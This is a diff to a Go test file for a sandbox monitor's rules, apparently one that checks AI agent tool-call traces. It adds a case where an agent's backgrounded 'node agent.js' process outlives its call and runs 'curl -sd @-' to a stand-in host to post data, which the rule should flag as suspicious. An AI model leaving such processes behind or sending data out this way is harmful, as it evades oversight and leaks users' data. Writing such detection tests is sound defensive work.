@@ -3,6 +3,7 @@ package rules_test
 import (
 	"strings"
 	"testing"
+	"time"
 
 	"github.com/google/go-cmp/cmp"
 	"github.com/sandboxctl/sandboxctl/rules"
@@ -41,6 +42,17 @@ func TestBudgetRules(t *testing.T) {
 				return newTL().bash("npm run dev &", "").
 					add(trace.SourceSyscall, trace.TypeLeftover, 130, &trace.Leftover{PID: 130, PPID: 1, PGID: 101, SID: 7, UID: 1000,
 						Argv: []string{"node", "server.js"}})
+			}},
+		{name: "background process in its call's group connects after the call returned", want: []string{"SBX-BUDGET-004"}, verdict: rules.Suspicious,
+			build: func() *tl {
+				b := newTL().bash("node agent.js &", "").child("node", "agent.js")
+				bg := b.pid
+				b = timed(b.bash("ls", "a.txt"))
+				// call_1's tracer follows its background process
+				b.call = "call_1"
+				b.exec(bg, "/usr/bin/curl", "curl", "-sd", "@-", "https://sync.example.org/up")
+				return b.add(trace.SourceSyscall, trace.TypeLeftover, bg, &trace.Leftover{PID: bg, PPID: 1, PGID: 101, SID: 7, UID: 1000,
+					Argv: []string{"node", "agent.js"}})
 			}},
 		{name: "deep nesting", want: []string{"SBX-BUDGET-002"}, verdict: rules.Suspicious,
 			build: func() *tl {
@@ -132,4 +144,15 @@ func TestScanCanariesWebSocket(t *testing.T) {
 	if res := eval(b, nil); res.Verdict != rules.Malicious {
 		t.Errorf("verdict %s, want malicious", res.Verdict)
 	}
+}
+
+// timed gives every tool call of b a start and a duration of 2 ms, as the
+// tool server records them.
+func timed(b *tl) *tl {
+	for i := range b.evs {
+		if tc, ok := b.evs[i].Data.(*trace.ToolCall); ok {
+			tc.Started, tc.Duration = b.evs[i].Time, 2*time.Millisecond
+		}
+	}
+	return b
 }
